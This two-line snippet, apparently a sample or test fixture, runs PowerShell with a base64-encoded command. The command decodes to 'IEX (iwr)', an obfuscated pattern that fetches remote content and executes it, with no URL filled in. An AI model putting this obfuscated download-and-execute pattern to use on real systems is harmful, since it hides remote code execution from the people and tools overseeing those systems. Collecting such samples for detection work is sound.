# Runs an encoded command.
powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAGkAdwByACkA
pwsh -enc SQBFAFgAIAAoAGkAdwByACkA
